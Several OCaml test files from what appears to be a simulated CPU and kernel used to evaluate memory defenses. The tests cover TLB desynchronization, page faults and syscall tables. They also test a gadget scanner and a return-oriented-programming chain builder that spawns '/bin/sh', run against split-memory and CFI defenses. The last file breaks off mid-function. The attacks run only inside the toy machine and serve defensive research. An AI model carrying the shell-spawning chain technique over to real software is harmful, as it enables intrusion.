let test_cpu_fault_restart () =
  let open Isa.Asm in
  (* Store to an unmapped page faults; after the kernel maps it, restarting
     the same instruction succeeds with identical register state. *)
  let phys, mmu = make_mmu () in
  let a = Isa.Asm.assemble ~origin:0 [ I (Mov_ri (EAX, 0x55)); I (Storeb (EBX, 0, EAX)) ] in
  Hw.Phys.blit_from_string phys ~frame:1 ~off:0 a.code;
  let table = Hashtbl.create 4 in
  Hashtbl.replace table 0 { Hw.Mmu.frame = 1; present = true; writable = true; user = true; nx = false };
  Hw.Mmu.reload_cr3 mmu (simple_walk table);
  let regs = Hw.Cpu.create_regs () in
  Hw.Cpu.set regs Isa.Reg.EBX 4096;
  step_n mmu regs 1;
  let eip_before = regs.eip in
  (match (Hw.Cpu.step mmu regs).outcome with
  | Error (Hw.Cpu.Page (f : Hw.Mmu.fault)) ->
    Alcotest.(check int) "fault addr" 4096 f.addr;
    Alcotest.(check int) "eip unchanged" eip_before regs.eip
  | _ -> Alcotest.fail "expected page fault");
  Hashtbl.replace table 1 { Hw.Mmu.frame = 2; present = true; writable = true; user = true; nx = false };
  step_n mmu regs 1;
  Alcotest.(check int) "store landed" 0x55 (Hw.Phys.read8 phys ~frame:2 ~off:0)

let test_cpu_debug_trap () =
  let open Isa.Asm in
  let mmu, regs = cpu_fixture [ I Nop; I Nop ] in
  regs.tf <- true;
  let s = Hw.Cpu.step mmu regs in
  Alcotest.(check bool) "trap after retire" true s.debug_trap;
  regs.tf <- false;
  let s = Hw.Cpu.step mmu regs in
  Alcotest.(check bool) "no trap" false s.debug_trap

let test_cpu_hlt_faults () =
  let open Isa.Asm in
  let mmu, regs = cpu_fixture [ I Hlt ] in
  match (Hw.Cpu.step mmu regs).outcome with
  | Error (Hw.Cpu.General_protection _) -> ()
  | _ -> Alcotest.fail "hlt in user mode must #GP"

let suite =
  [
    Alcotest.test_case "phys read/write/copy/fill" `Quick test_phys_rw;
    Alcotest.test_case "phys bounds checking" `Quick test_phys_bounds;
    Alcotest.test_case "tlb insert/evict fifo" `Quick test_tlb_basics;
    Alcotest.test_case "tlb same-vpn replace" `Quick test_tlb_replace_same_vpn;
    Alcotest.test_case "tlb invalidate/flush" `Quick test_tlb_invalidate_flush;
    Alcotest.test_case "mmu translate + cache independence" `Quick test_mmu_translate_and_cache;
    Alcotest.test_case "mmu supervisor faults" `Quick test_mmu_supervisor_fault;
    Alcotest.test_case "mmu nx enforcement" `Quick test_mmu_nx;
    Alcotest.test_case "TLB desynchronization (the core trick)" `Quick test_tlb_desync;
    Alcotest.test_case "cpu arithmetic and flags" `Quick test_cpu_arith_flags;
    Alcotest.test_case "cpu push/call/ret/pop" `Quick test_cpu_stack_call_ret;
    Alcotest.test_case "cpu 32-bit wraparound" `Quick test_cpu_wraparound;
    Alcotest.test_case "cpu fault-and-restart" `Quick test_cpu_fault_restart;
    Alcotest.test_case "cpu single-step trap" `Quick test_cpu_debug_trap;
    Alcotest.test_case "cpu hlt is privileged" `Quick test_cpu_hlt_faults;
  ]
