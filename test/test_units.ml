(* Unit tests for the supporting modules: report rendering, the event log,
   disassembler, guest fragments, address-space plumbing, layout sanity,
   cost accounting. *)

(* --- Report ---------------------------------------------------------------- *)

let test_report_table () =
  let s =
    Report.table ~title:"T" ~header:[ "a"; "bb" ] [ [ "1"; "2" ]; [ "333"; "4" ] ]
  in
  Alcotest.(check bool) "has title" true (Astring_contains.contains s "T");
  Alcotest.(check bool) "has rule" true (Astring_contains.contains s "+-----+");
  Alcotest.(check bool) "pads cells" true (Astring_contains.contains s "| 333 | 4  |")

let test_report_bars () =
  let s = Report.bars ~width:10 ~title:"B" [ ("x", 0.5); ("longer", 1.0) ] in
  Alcotest.(check bool) "value printed" true (Astring_contains.contains s "0.50");
  Alcotest.(check bool) "clamps nan" true
    (Astring_contains.contains (Report.bars ~title:"n" [ ("v", Float.nan) ]) "0.00");
  Alcotest.(check string) "percent" "90%" (Report.percent 0.9)

(* --- Event log -------------------------------------------------------------- *)

let test_event_log () =
  let log = Kernel.Event_log.create () in
  Alcotest.(check bool) "empty" true (Kernel.Event_log.to_list log = []);
  Kernel.Event_log.add log (Kernel.Event_log.Exec_shell { pid = 3; path = "/bin/sh" });
  Kernel.Event_log.note log "custom %d" 7;
  Alcotest.(check bool) "shell" true (Kernel.Event_log.shell_spawned log);
  Alcotest.(check int) "count" 2 (Kernel.Event_log.count log (fun _ -> true));
  (* order is oldest-first *)
  (match Kernel.Event_log.to_list log with
  | [ Kernel.Event_log.Exec_shell _; Kernel.Event_log.Note "custom 7" ] -> ()
  | _ -> Alcotest.fail "ordering");
  Kernel.Event_log.add log
    (Kernel.Event_log.Injection_detected { pid = 3; eip = 0x1000; mode = "break" });
  Alcotest.(check (list (triple int int string))) "detections" [ (3, 0x1000, "break") ]
    (Kernel.Event_log.detections log)

(* --- Disassembler ----------------------------------------------------------- *)

let test_disasm_region_recovers () =
  (* an invalid byte advances by one and decoding resumes *)
  let bytes = "\xFF" ^ Isa.Encode.to_string Isa.Insn.Nop ^ Isa.Encode.to_string Isa.Insn.Ret in
  let lines = Isa.Disasm.region bytes ~pos:0 ~len:(String.length bytes) in
  match lines with
  | [ (0, Error (Isa.Decode.Bad_opcode 0xFF)); (1, Ok Isa.Insn.Nop); (2, Ok Isa.Insn.Ret) ]
    ->
    ()
  | _ -> Alcotest.failf "unexpected sweep (%d lines)" (List.length lines)

let test_hex_dump () =
  let s = Isa.Disasm.hex_dump "\x00\x90\xFF" ~pos:0 ~len:3 in
  Alcotest.(check bool) "bytes shown" true (Astring_contains.contains s "00 90 ff")

(* --- Guest fragments --------------------------------------------------------- *)

let test_code_filler_spans_pages () =
  let prog = Isa.Asm.[ L "start"; I Nop ] @ Guest.code_filler ~tag:"f" ~pages:3 in
  let a = Isa.Asm.assemble ~origin:0 prog in
  let page l = Isa.Asm.label a l / 4096 in
  Alcotest.(check bool) "blocks on distinct pages" true
    (page "f_0" <> page "f_1" && page "f_1" <> page "f_2")

(* --- Aspace ------------------------------------------------------------------ *)

let test_aspace_regions_and_content () =
  let aspace = Kernel.Aspace.create ~page_size:4096 in
  let region : Kernel.Aspace.region =
    {
      lo = 16;
      hi = 18;
      kind = Kernel.Pte.Data;
      writable = true;
      execable = false;
      source = Kernel.Aspace.Image_bytes { base = (16 * 4096) + 10; bytes = "HELLO" };
      share = None;
    }
  in
  Kernel.Aspace.add_region aspace region;
  Alcotest.(check bool) "find hit" true (Kernel.Aspace.find_region aspace 17 <> None);
  Alcotest.(check bool) "find miss" true (Kernel.Aspace.find_region aspace 18 = None);
  let content = Kernel.Aspace.page_content aspace region 16 in
  Alcotest.(check int) "page-sized" 4096 (String.length content);
  Alcotest.(check string) "offset blit" "HELLO" (String.sub content 10 5);
  Alcotest.(check char) "zero fill" '\000' content.[0];
  (* second page of the region holds nothing of the 5-byte source *)
  let content2 = Kernel.Aspace.page_content aspace region 17 in
  Alcotest.(check string) "empty page" (String.make 4096 '\000') content2

(* --- Layout ------------------------------------------------------------------- *)

let test_layout_disjoint () =
  let spans =
    [
      ("code", Kernel.Layout.code_base, Kernel.Layout.rodata_base);
      ("rodata", Kernel.Layout.rodata_base, Kernel.Layout.data_base);
      ("data", Kernel.Layout.data_base, Kernel.Layout.bss_base);
      ("bss", Kernel.Layout.bss_base, Kernel.Layout.mixed_base);
      ("mixed", Kernel.Layout.mixed_base, Kernel.Layout.heap_base);
      ("heap", Kernel.Layout.heap_base, Kernel.Layout.heap_limit);
      ("lib", Kernel.Layout.lib_base, Kernel.Layout.mmap_base);
      ("mmap", Kernel.Layout.mmap_base, Kernel.Layout.mmap_limit);
      ( "stack",
        Kernel.Layout.stack_top - Kernel.Layout.stack_max_bytes,
        Kernel.Layout.stack_top );
    ]
  in
  List.iter (fun (n, lo, hi) -> Alcotest.(check bool) (n ^ " nonempty") true (lo < hi)) spans;
  (* pairwise disjoint *)
  List.iteri
    (fun i (n1, lo1, hi1) ->
      List.iteri
        (fun j (n2, lo2, hi2) ->
          if i < j then
            Alcotest.(check bool)
              (Fmt.str "%s and %s disjoint" n1 n2)
              true
              (hi1 <= lo2 || hi2 <= lo1))
        spans)
    spans;
  Alcotest.(check bool) "esp inside stack" true
    (Kernel.Layout.initial_esp > Kernel.Layout.stack_top - Kernel.Layout.stack_max_bytes
    && Kernel.Layout.initial_esp < Kernel.Layout.stack_top)

(* --- Cost accounting ------------------------------------------------------------ *)

let test_cost_counters () =
  let c = Hw.Cost.create () in
  Hw.Cost.charge_insn c;
  Hw.Cost.charge_trap c;
  Hw.Cost.charge_split_pf c;
  Hw.Cost.charge_single_step c;
  Hw.Cost.charge_syscall c;
  Hw.Cost.charge_ctx_switch c;
  Hw.Cost.charge c 5;
  let p = c.params in
  Alcotest.(check int) "cycles are the sum"
    (p.insn + p.trap + p.split_pf_service + p.single_step_service + p.syscall
   + p.ctx_switch + 5)
    c.cycles;
  Alcotest.(check int) "insns" 1 c.insns;
  Alcotest.(check int) "traps" 1 c.traps;
  Alcotest.(check int) "split" 1 c.split_faults;
  Alcotest.(check int) "ss" 1 c.single_steps;
  Alcotest.(check int) "sys" 1 c.syscalls;
  Alcotest.(check int) "ctxsw" 1 c.ctx_switches

(* --- Pte ------------------------------------------------------------------------- *)

let test_pte_views () =
  let pte = Kernel.Pte.make ~vpn:3 ~kind:Kernel.Pte.Heap ~frame:9 ~writable:true in
  Alcotest.(check int) "code=data=frame when unsplit" 9 (Kernel.Pte.code_frame pte);
  pte.split <- Some { code_frame = 10; data_frame = 11; locked_to_data = false };
  Alcotest.(check int) "code copy" 10 (Kernel.Pte.code_frame pte);
  Alcotest.(check int) "data copy" 11 (Kernel.Pte.data_frame pte);
  (Option.get pte.split).locked_to_data <- true;
  Alcotest.(check int) "locked: fetches reach data" 11 (Kernel.Pte.code_frame pte);
  Kernel.Pte.restrict pte;
  Alcotest.(check bool) "restricted" false (Kernel.Pte.to_hw pte).user

let suite =
  [
    Alcotest.test_case "report table" `Quick test_report_table;
    Alcotest.test_case "report bars" `Quick test_report_bars;
    Alcotest.test_case "event log semantics" `Quick test_event_log;
    Alcotest.test_case "disasm linear sweep recovery" `Quick test_disasm_region_recovers;
    Alcotest.test_case "hex dump" `Quick test_hex_dump;
    Alcotest.test_case "code_filler spans pages" `Quick test_code_filler_spans_pages;
    Alcotest.test_case "aspace regions and page content" `Quick test_aspace_regions_and_content;
    Alcotest.test_case "layout spans disjoint" `Quick test_layout_disjoint;
    Alcotest.test_case "cost counters" `Quick test_cost_counters;
    Alcotest.test_case "pte copy views" `Quick test_pte_views;
  ]
