(* The code-reuse subsystem: gadget scanner, chain builder, the defense x
   attack matrix boundary, and the Encode -> Decode -> Disasm round-trip
   property over random well-formed instruction streams. *)

open Reuse

let victim = Campaign.scan ()
let image = Victim.image ()

let defense name =
  match List.assoc_opt name Campaign.defenses with
  | Some d -> d
  | None -> Alcotest.failf "unknown defense %s" name

(* ------------------------------------------------------------------ *)
(* Gadget scanner                                                      *)
(* ------------------------------------------------------------------ *)

(* The pop/ret gadgets are unintended: they live at +2 inside the Mov_ri
   immediates of the checksum constants, not on any instruction boundary
   the assembler emitted. *)
let test_unintended_gadgets () =
  let pop_ebx =
    match Gadget.pop_ret victim Isa.Reg.EBX with
    | Some g -> g
    | None -> Alcotest.fail "no pop ebx; ret gadget in victim image"
  in
  let pop_eax =
    match Gadget.pop_ret victim Isa.Reg.EAX with
    | Some g -> g
    | None -> Alcotest.fail "no pop eax; ret gadget in victim image"
  in
  Alcotest.(check int) "pop ebx hides at ck1+2" (Kernel.Image.label image "ck1" + 2)
    pop_ebx.Gadget.addr;
  Alcotest.(check int) "pop eax hides at ck2+2" (Kernel.Image.label image "ck2" + 2)
    pop_eax.Gadget.addr;
  Alcotest.(check int) "pop;ret is 3 bytes" 3 (Gadget.size pop_ebx);
  (match pop_ebx.Gadget.insns with
  | [ Isa.Insn.Pop Isa.Reg.EBX; Isa.Insn.Ret ] -> ()
  | _ -> Alcotest.fail "pop ebx gadget decodes to something else");
  match Gadget.syscall_ret victim with
  | Some g -> (
    match g.Gadget.insns with
    | [ Isa.Insn.Int 0x80; Isa.Insn.Ret ] -> ()
    | _ -> Alcotest.fail "syscall gadget decodes to something else")
  | None -> Alcotest.fail "no int 0x80; ret gadget in victim image"

(* Every gadget the scanner indexes must re-decode at its own address: the
   index is a promise about what the CPU will execute. *)
let test_scan_self_consistent () =
  let code =
    match Kernel.Image.find_segment image Kernel.Image.Code with
    | Some s -> s
    | None -> Alcotest.fail "victim image has no code segment"
  in
  Alcotest.(check bool) "scanner found a non-trivial index" true
    (List.length victim > 10);
  List.iter
    (fun (g : Gadget.t) ->
      let pos = g.addr - code.Kernel.Image.base in
      match Isa.Decode.of_string code.Kernel.Image.bytes pos with
      | Ok i -> Alcotest.(check bool) "first insn re-decodes" true (i = List.hd g.insns)
      | Error _ -> Alcotest.failf "gadget at 0x%08x does not re-decode" g.addr)
    victim

(* The scanner is total at segment boundaries: a truncated tail yields no
   gadget, never an exception or a phantom decode. *)
let test_scan_total_at_boundary () =
  (* 0x01 = Mov_ri opcode: 6-byte instruction cut to 3 bytes *)
  let truncated = "\x01\x00\x32" in
  Alcotest.(check bool) "truncated Mov_ri yields no gadget" true
    (Gadget.at ~base:0 truncated 0 = None);
  Alcotest.(check bool) "decode reports Truncated" true
    (Isa.Decode.of_string truncated 0 = Error Isa.Decode.Truncated);
  Alcotest.(check bool) "empty string is Truncated" true
    (Isa.Decode.of_string "" 0 = Error Isa.Decode.Truncated);
  (* a bare ret as the last byte is still a gadget *)
  match Gadget.at ~base:0x1000 "\x90\x32" 1 with
  | Some g -> Alcotest.(check int) "ret-at-end gadget addr" 0x1001 g.Gadget.addr
  | None -> Alcotest.fail "final-byte ret not indexed"

(* ------------------------------------------------------------------ *)
(* Chain builder                                                       *)
(* ------------------------------------------------------------------ *)

let test_chain_shape () =
  let chain = Campaign.chain_for image in
  Alcotest.(check int) "execve+exit chain is 10 words" 10
    (List.length (Chain.words chain));
  Alcotest.(check int) "serialized chain is 40 bytes" 40
    (String.length (Chain.to_bytes chain));
  Alcotest.(check bool) "chain survives copy_until_newline" false
    (Chain.contains_newline chain);
  (* the execve syscall number and the "/bin/sh" address ride the chain *)
  let words = Chain.words chain in
  Alcotest.(check bool) "execve number in chain" true (List.mem 11 words);
  Alcotest.(check bool) "sh address in chain" true
    (List.mem (Kernel.Image.label image "sh") words)

let test_chain_no_gadget () =
  Alcotest.check_raises "empty index raises No_gadget"
    (Chain.No_gadget "pop ebx; ret") (fun () ->
      ignore (Chain.execve_exit ~gadgets:[] ~sh_addr:0x08060000))

let test_ret_into () =
  let c = Chain.ret_into ~target:0x08048140 in
  Alcotest.(check (list int)) "ret_into is one word" [ 0x08048140 ] (Chain.words c)

(* ------------------------------------------------------------------ *)
(* The matrix boundary                                                 *)
(* ------------------------------------------------------------------ *)

let check_outcome name expected actual =
  Alcotest.(check string) name expected (Attack.Runner.outcome_name actual)

(* Paper section 7: no reuse attack writes a byte that is later fetched, so
   split memory alone must let all three through. *)
let test_reuse_escapes_split () =
  List.iter
    (fun a ->
      let outcome = Campaign.run ~defense:(defense "split") a in
      Alcotest.(check bool)
        (Campaign.attack_name a ^ " escapes split memory")
        true
        (Attack.Runner.is_attack_success outcome))
    Campaign.attacks

(* CFI closes the boundary: returns to gadget addresses violate the shadow
   stack, the clobbered function pointer violates the coarse call policy. *)
let test_cfi_detects_reuse () =
  List.iter
    (fun dname ->
      (match Campaign.run ~defense:(defense dname) Campaign.Rop_chain with
      | Attack.Runner.Foiled { mode } ->
        Alcotest.(check string) ("rop under " ^ dname) "cfi-ret" mode
      | o -> check_outcome ("rop under " ^ dname) "foiled" o);
      (match Campaign.run ~defense:(defense dname) Campaign.Ret2libtext with
      | Attack.Runner.Foiled { mode } ->
        Alcotest.(check string) ("ret2libtext under " ^ dname) "cfi-ret" mode
      | o -> check_outcome ("ret2libtext under " ^ dname) "foiled" o);
      match Campaign.run ~defense:(defense dname) Campaign.Fptr_clobber with
      | Attack.Runner.Foiled { mode } ->
        Alcotest.(check string) ("fptr-clobber under " ^ dname) "cfi-call" mode
      | o -> check_outcome ("fptr-clobber under " ^ dname) "foiled" o)
    [ "cfi"; "split+cfi" ]

let contains s sub =
  let n = String.length sub in
  let rec go i = i + n <= String.length s && (String.sub s i n = sub || go (i + 1)) in
  n = 0 || go 0

(* No false positives: both victim paths run to completion under every
   defense, including the data-held function pointer dispatch under CFI. *)
let test_benign_clean () =
  List.iter
    (fun (dname, d) ->
      List.iter
        (fun sel ->
          let outcome, out = Campaign.benign ~defense:d sel in
          check_outcome
            (Fmt.str "benign sel=%d under %s" (Char.code sel.[0]) dname)
            "exit 0" outcome;
          Alcotest.(check bool) "benign prints DONE" true (contains out "DONE"))
        [ Victim.sel_stack; Victim.sel_fptr ])
    Campaign.defenses

(* The full 30-cell grid matches the threat model, at any -j. *)
let test_matrix () =
  let cells = Campaign.matrix ~jobs:2 () in
  Alcotest.(check int) "matrix is 6 attacks x 5 defenses" 30 (List.length cells);
  Alcotest.(check bool) "every cell matches the threat model" true
    (Campaign.check cells);
  let rendered = Fmt.str "%a" Campaign.render cells in
  let rendered1 = Fmt.str "%a" Campaign.render (Campaign.matrix ~jobs:1 ()) in
  Alcotest.(check string) "-j invariant rendering" rendered1 rendered

(* ------------------------------------------------------------------ *)
(* Encode -> Decode -> Disasm round trip                               *)
(* ------------------------------------------------------------------ *)

(* A generator of well-formed instructions: operand ranges chosen so the
   encoding is lossless (u32 immediates unsigned, displacements and
   relative targets in signed-32 range, shift counts and vectors in u8). *)
let gen_insn : Isa.Insn.t QCheck.Gen.t =
  let open QCheck.Gen in
  let open Isa in
  let reg = map (fun i -> List.nth Reg.all i) (int_range 0 7) in
  let u32 = map (fun i -> i land 0xFFFFFFFF) (int_range 0 max_int) in
  let s32 = int_range (-0x80000000) 0x7FFFFFFF in
  let u8 = int_range 0 255 in
  let rel = map (fun d -> Insn.Rel d) s32 in
  oneof
    [
      return Insn.Nop;
      return Insn.Hlt;
      return Insn.Ret;
      map2 (fun d i -> Insn.Mov_ri (d, i)) reg u32;
      map2 (fun d s -> Insn.Mov_rr (d, s)) reg reg;
      map3 (fun d b o -> Insn.Load (d, b, o)) reg reg s32;
      map3 (fun b o s -> Insn.Store (b, o, s)) reg s32 reg;
      map3 (fun d b o -> Insn.Loadb (d, b, o)) reg reg s32;
      map3 (fun b o s -> Insn.Storeb (b, o, s)) reg s32 reg;
      map (fun r -> Insn.Push r) reg;
      map (fun r -> Insn.Pop r) reg;
      map3 (fun d b o -> Insn.Lea (d, b, o)) reg reg s32;
      map2 (fun d s -> Insn.Add (d, s)) reg reg;
      map2 (fun d s -> Insn.Sub (d, s)) reg reg;
      map2 (fun d i -> Insn.Add_ri (d, i)) reg s32;
      map2 (fun a b -> Insn.Cmp (a, b)) reg reg;
      map2 (fun a i -> Insn.Cmp_ri (a, i)) reg s32;
      map2 (fun d s -> Insn.And_ (d, s)) reg reg;
      map2 (fun d s -> Insn.Or_ (d, s)) reg reg;
      map2 (fun d s -> Insn.Xor (d, s)) reg reg;
      map2 (fun d s -> Insn.Mul (d, s)) reg reg;
      map2 (fun d n -> Insn.Shl (d, n)) reg u8;
      map2 (fun d n -> Insn.Shr (d, n)) reg u8;
      map (fun t -> Insn.Jmp t) rel;
      map (fun t -> Insn.Jz t) rel;
      map (fun t -> Insn.Jnz t) rel;
      map (fun t -> Insn.Jl t) rel;
      map (fun t -> Insn.Jge t) rel;
      map (fun r -> Insn.Jmp_r r) reg;
      map (fun t -> Insn.Call t) rel;
      map (fun r -> Insn.Call_r r) reg;
      map (fun n -> Insn.Int n) u8;
    ]

let gen_stream = QCheck.Gen.(list_size (int_range 1 24) gen_insn)

let encode_stream insns =
  let buf = Buffer.create 64 in
  List.iter (Isa.Encode.add buf) insns;
  Buffer.contents buf

let decode_stream bytes =
  let rec go pos acc =
    if pos >= String.length bytes then Some (List.rev acc)
    else
      match Isa.Decode.of_string bytes pos with
      | Ok i -> go (pos + Isa.Insn.size i) (i :: acc)
      | Error _ -> None
  in
  go 0 []

let prop_roundtrip =
  QCheck.Test.make ~name:"Encode -> Decode round-trips any well-formed stream"
    ~count:500 (QCheck.make gen_stream) (fun insns ->
      decode_stream (encode_stream insns) = Some insns)

let prop_size_agrees =
  QCheck.Test.make ~name:"Insn.size equals encoded length" ~count:500
    (QCheck.make gen_insn) (fun i ->
      String.length (Isa.Encode.to_string i) = Isa.Insn.size i)

let prop_disasm_total =
  QCheck.Test.make ~name:"Disasm renders every well-formed stream" ~count:200
    (QCheck.make gen_stream) (fun insns ->
      let bytes = encode_stream insns in
      let s = Isa.Disasm.to_string bytes ~pos:0 ~len:(String.length bytes) in
      (* one rendered line per instruction, and no decode-error marker *)
      let lines = String.split_on_char '\n' (String.trim s) in
      List.length lines = List.length insns)

let suite =
  [
    Alcotest.test_case "unintended gadgets found" `Quick test_unintended_gadgets;
    Alcotest.test_case "gadget index self-consistent" `Quick test_scan_self_consistent;
    Alcotest.test_case "scanner total at boundaries" `Quick test_scan_total_at_boundary;
    Alcotest.test_case "execve chain shape" `Quick test_chain_shape;
    Alcotest.test_case "No_gadget on empty index" `Quick test_chain_no_gadget;
    Alcotest.test_case "ret-into chain" `Quick test_ret_into;
    Alcotest.test_case "reuse escapes split memory" `Quick test_reuse_escapes_split;
    Alcotest.test_case "CFI detects reuse" `Quick test_cfi_detects_reuse;
    Alcotest.test_case "benign paths clean" `Quick test_benign_clean;
    Alcotest.test_case "matrix matches threat model" `Slow test_matrix;
  ]
  @ List.map QCheck_alcotest.to_alcotest
      [ prop_roundtrip; prop_size_agrees; prop_disasm_total ]
