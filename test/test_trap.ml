(* The refactor-equivalence gate for the layered kernel (trap pipeline,
   syscall table, extracted scheduler, MMU fast path).

   Two families of checks:

   - Golden shapes: every [Snap.Scenario] canonical machine is run to
     completion and its observable shape — stop reason, all seven cost
     counters, and the full kernel event log — is compared line-for-line
     against a committed golden file captured on the pre-refactor kernel.
     Any change to trap routing, syscall dispatch, scheduling order or MMU
     cost charging shows up here as a diff.

   - Replay self-equivalence: [Snap.Replay.check] checkpoints each scenario
     mid-run, finishes it, restores and re-runs — bit-identical event logs
     and cycle counters or the test fails.

   Regenerate goldens (only for an intentional behaviour change) with:
     REGEN_GOLDEN=test/golden dune exec test/test_main.exe -- test trap *)

let golden_dir = "golden"

let stop_name : Kernel.Os.stop_reason -> string = function
  | All_exited -> "all_exited"
  | All_blocked -> "all_blocked"
  | Fuel_exhausted -> "fuel_exhausted"

(* The canonical observable shape of a finished machine. *)
let shape (scenario : Snap.Scenario.t) =
  let os = scenario.start () in
  let stop = Kernel.Os.run ~fuel:2_000_000 os in
  let c = Kernel.Os.cost os in
  let b = Buffer.create 1024 in
  let line fmt = Fmt.kstr (fun s -> Buffer.add_string b (s ^ "\n")) fmt in
  line "scenario: %s" scenario.name;
  line "stop: %s" (stop_name stop);
  line "cycles: %d" c.cycles;
  line "insns: %d" c.insns;
  line "traps: %d" c.traps;
  line "split_faults: %d" c.split_faults;
  line "single_steps: %d" c.single_steps;
  line "syscalls: %d" c.syscalls;
  line "ctx_switches: %d" c.ctx_switches;
  line "events:";
  List.iter
    (fun e -> line "  %s" (Fmt.str "%a" Kernel.Event_log.pp_event e))
    (Kernel.Event_log.to_list (Kernel.Os.log os));
  Buffer.contents b

let read_file path =
  let ic = open_in_bin path in
  let n = in_channel_length ic in
  let s = really_input_string ic n in
  close_in ic;
  s

let golden_path name = Filename.concat golden_dir (name ^ ".golden")

let test_golden (scenario : Snap.Scenario.t) () =
  let got = shape scenario in
  match Sys.getenv_opt "REGEN_GOLDEN" with
  | Some dir ->
    let path = Filename.concat dir (scenario.name ^ ".golden") in
    let oc = open_out_bin path in
    output_string oc got;
    close_out oc;
    Fmt.epr "regenerated %s@." path
  | None ->
    let path = golden_path scenario.name in
    if not (Sys.file_exists path) then
      Alcotest.failf "missing golden file %s (run with REGEN_GOLDEN)" path;
    let want = read_file path in
    if got <> want then begin
      (* line-level diff beats a 2KB string blob in the failure output *)
      let split s = String.split_on_char '\n' s in
      let rec first_diff i = function
        | [], [] -> None
        | a :: _, [] -> Some (i, a, "<missing>")
        | [], b :: _ -> Some (i, "<missing>", b)
        | a :: ta, b :: tb -> if a <> b then Some (i, a, b) else first_diff (i + 1) (ta, tb)
      in
      match first_diff 1 (split want, split got) with
      | Some (ln, w, g) ->
        Alcotest.failf "golden mismatch for %s at line %d:@.  golden: %s@.  got:    %s"
          scenario.name ln w g
      | None -> Alcotest.failf "golden mismatch for %s (whitespace only?)" scenario.name
    end

let test_replay (scenario : Snap.Scenario.t) () =
  let os = scenario.start () in
  let report, _snap = Snap.Replay.check os in
  if not (Snap.Replay.ok report) then
    Alcotest.failf "replay diverged for %s: %a" scenario.name Snap.Replay.pp report

let scenario_tests =
  List.concat_map
    (fun (s : Snap.Scenario.t) ->
      [
        Alcotest.test_case (Fmt.str "golden shape: %s" s.name) `Quick (test_golden s);
        Alcotest.test_case (Fmt.str "replay equivalence: %s" s.name) `Quick (test_replay s);
      ])
    Snap.Scenario.all

(* ------------------------------------------------------------------ *)
(* Syscall-table unit tests                                            *)
(* ------------------------------------------------------------------ *)

let mk_machine () = Kernel.Machine.create ~protection:Kernel.Protection.none ()

(* A bare process, good enough for register-only syscalls. *)
let mk_proc (m : Kernel.Machine.t) =
  let aspace = Kernel.Aspace.create ~page_size:4096 in
  let p = Kernel.Proc.create ~pid:1 ~name:"t" ~aspace in
  Hashtbl.replace m.procs 1 p;
  p

let eax (p : Kernel.Proc.t) = Hw.Cpu.sign32 (Hw.Cpu.get p.regs Isa.Reg.EAX)
let set_reg (p : Kernel.Proc.t) r v = Hw.Cpu.set p.regs r v

let test_table_registration () =
  let tbl = Kernel.Syscalls.create () in
  Kernel.Syscalls.register tbl 99 ~name:"frobnicate" (fun _m p ->
      Hw.Cpu.set p.Kernel.Proc.regs Isa.Reg.EAX 42);
  Alcotest.(check (list int)) "numbers" [ 99 ] (Kernel.Syscalls.numbers tbl);
  Alcotest.(check string) "registered name" "frobnicate" (Kernel.Syscalls.name tbl 99);
  Alcotest.(check string) "fallback name" "sys_7" (Kernel.Syscalls.name tbl 7);
  let m = mk_machine () in
  let p = mk_proc m in
  Kernel.Syscalls.dispatch tbl m p 99;
  Alcotest.(check int) "handler ran" 42 (eax p);
  (* re-registration replaces the binding *)
  Kernel.Syscalls.register tbl 99 ~name:"frobnicate2" (fun _ p ->
      Hw.Cpu.set p.Kernel.Proc.regs Isa.Reg.EAX 43);
  Kernel.Syscalls.dispatch tbl m p 99;
  Alcotest.(check int) "replaced handler ran" 43 (eax p);
  Alcotest.(check (list int)) "still one entry" [ 99 ] (Kernel.Syscalls.numbers tbl)

let test_table_unknown () =
  let tbl = Kernel.Syscalls.create () in
  let m = mk_machine () in
  let p = mk_proc m in
  Kernel.Syscalls.dispatch tbl m p 12345;
  Alcotest.(check int) "-ENOSYS" (-38) (eax p);
  Alcotest.(check string) "unknown name" "sys_12345" (Kernel.Syscalls.name tbl 12345);
  Alcotest.(check bool) "still runnable" true (Kernel.Proc.is_runnable p)

let test_table_default () =
  let tbl = Kernel.Syscalls.default () in
  Alcotest.(check (list int)) "default numbers"
    [ 1; 2; 3; 4; 6; 7; 11; 13; 20; 42; 45; 48; 90; 125; 137; 158; 162 ]
    (Kernel.Syscalls.numbers tbl);
  List.iter
    (fun (n, name) ->
      Alcotest.(check string) (Fmt.str "name of %d" n) name (Kernel.Syscalls.name tbl n))
    [ (1, "exit"); (2, "fork"); (4, "write"); (137, "uselib"); (158, "sched_yield");
      (162, "nanosleep") ];
  (* the facade's syscall_name is the same table *)
  Alcotest.(check string) "Os.syscall_name" "mmap" (Kernel.Os.syscall_name 90);
  Alcotest.(check string) "Os.syscall_name fallback" "sys_999" (Kernel.Os.syscall_name 999)

let test_table_efault () =
  let tbl = Kernel.Syscalls.create () in
  Kernel.Syscalls.register tbl 50 ~name:"bad_pointer" (fun _ _ -> raise Kernel.Machine.Efault);
  let m = mk_machine () in
  let p = mk_proc m in
  Kernel.Syscalls.dispatch tbl m p 50;
  Alcotest.(check int) "-EFAULT" (-14) (eax p)

let test_table_tracer () =
  let m = mk_machine () in
  let p = mk_proc m in
  let traces = ref [] in
  m.syscall_tracer <- Some (fun tr -> traces := tr :: !traces);
  set_reg p Isa.Reg.EAX 20;
  set_reg p Isa.Reg.EBX 111;
  set_reg p Isa.Reg.ECX 222;
  set_reg p Isa.Reg.EDX 333;
  Kernel.Syscalls.dispatch (Kernel.Syscalls.default ()) m p 20;
  Kernel.Syscalls.dispatch (Kernel.Syscalls.default ()) m p 12345;
  match List.rev !traces with
  | [ t1; t2 ] ->
    Alcotest.(check string) "traced name" "getpid" t1.Kernel.Machine.sys_name;
    Alcotest.(check int) "traced pid" 1 t1.Kernel.Machine.sys_pid;
    (match t1.Kernel.Machine.sys_args with
    | 111, 222, 333 -> ()
    | _ -> Alcotest.fail "args not captured at entry");
    (match t1.Kernel.Machine.sys_outcome with
    | Kernel.Machine.Returned 1 -> ()
    | _ -> Alcotest.fail "expected Returned 1 (the pid)");
    Alcotest.(check string) "unknown traced too" "sys_12345" t2.Kernel.Machine.sys_name;
    (match t2.Kernel.Machine.sys_outcome with
    | Kernel.Machine.Returned -38 -> ()
    | _ -> Alcotest.fail "expected Returned -38")
  | l -> Alcotest.failf "expected 2 trace records, got %d" (List.length l)

(* ------------------------------------------------------------------ *)
(* Trap-pipeline unit tests                                            *)
(* ------------------------------------------------------------------ *)

let some_fault : Hw.Mmu.fault =
  { addr = 0x08048123; access = Hw.Mmu.Write; kind = Hw.Mmu.Protection; from_user = true }

let test_classify () =
